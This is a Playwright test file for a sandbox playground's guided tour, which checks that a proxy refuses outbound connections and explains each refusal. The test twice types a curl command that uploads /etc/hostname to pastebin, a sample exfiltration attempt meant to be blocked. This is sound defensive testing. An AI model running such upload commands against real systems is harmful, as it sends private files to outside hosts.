import { expect, type Page, test } from "@playwright/test";
import { BOOT_TIMEOUT_MS, closePlayground, openPlayground, type Playground, typeAndWait, waitForGuest } from "./support/guest";
import { lessonEvents } from "./support/lessons";
import { refuseUnplanned, routeZen } from "./support/upstreams";

// The guided tour is a lesson: `?tour=1` opens lessons/01-tour.yaml in the lesson player, with
// one click and no card (it is the playground's own). The trainee types each step's command in
// the real guest's terminal; a wrong outcome says what happened instead and stays on the step.
// One boot for the file.
test.describe.configure({ mode: "serial" });

let pg: Playground;
test.beforeAll(async ({ browser }) => {
  test.setTimeout(BOOT_TIMEOUT_MS + 60_000);
  pg = await openPlayground(browser, "./?tour=1");
  await refuseUnplanned(pg.context);
  await routeZen(pg.context, "Practicality beats purity.");
  await waitForGuest(pg.page);
});
test.afterAll(async () => {
  await closePlayground(pg);
});

const run = (page: Page) => page.getByTestId("lesson-run");

test("?tour=1 opens the tour lesson in the lesson player at its first step", async () => {
  const page = pg.page;
  await expect(page.getByTestId("lesson-card")).toContainText("The tour: four ways out, four refusals");
  await expect(run(page)).toHaveAttribute("data-step", "1");
  await expect(page.getByTestId("lesson-step")).toContainText("Send a file to pastebin");
  await expect.poll(() => lessonEvents(page)).toEqual(["load bundled 4"]);
});

test("step 1 passes on the proxy's refusal, explained; a wrong outcome on step 2 says what happened instead and stays", async () => {
  test.setTimeout(240_000);
  const page = pg.page;
  await typeAndWait(page, "curl -sS -T /etc/hostname https://pastebin.com/api/upload");
  await expect(run(page)).toHaveAttribute("data-step", "2", { timeout: 90_000 });
  await expect(page.getByTestId("lesson-verdict")).toContainText("host-not-allowed by proxy");
  await expect(page.getByTestId("lesson-explain")).toContainText("Verdict table, row 2");
  await page.screenshot({ path: "docs/screenshots/tour.png" }); // docs/guide.md, "The guided tour"

  await typeAndWait(page, "curl -sS -T /etc/hostname https://pastebin.com/api/upload");
  const attempt = page.getByTestId("lesson-attempt");
  await expect(attempt).toHaveAttribute("data-result", "failed", { timeout: 90_000 });
  await expect(attempt).toContainText("What happened instead: the proxy refused CONNECT pastebin.com:443: host-not-allowed");
  await expect(run(page)).toHaveAttribute("data-step", "2");
});

test("Show me finishes the tour, step by step", async () => {
  test.setTimeout(360_000);
  const page = pg.page;
  for (const next of ["3", "4"]) {
    await page.getByTestId("lesson-show-me").click();
    await expect(run(page)).toHaveAttribute("data-step", next, { timeout: 90_000 });
  }
  await page.getByTestId("lesson-show-me").click();
  await expect(page.getByTestId("lesson-done")).toBeVisible({ timeout: 90_000 });
  expect(await lessonEvents(page)).toEqual([
    "load bundled 4",
    "step 1 passed",
    "step 2 failed",
    "step 2 passed",
    "step 3 passed",
    "step 4 passed",
  ]);
});
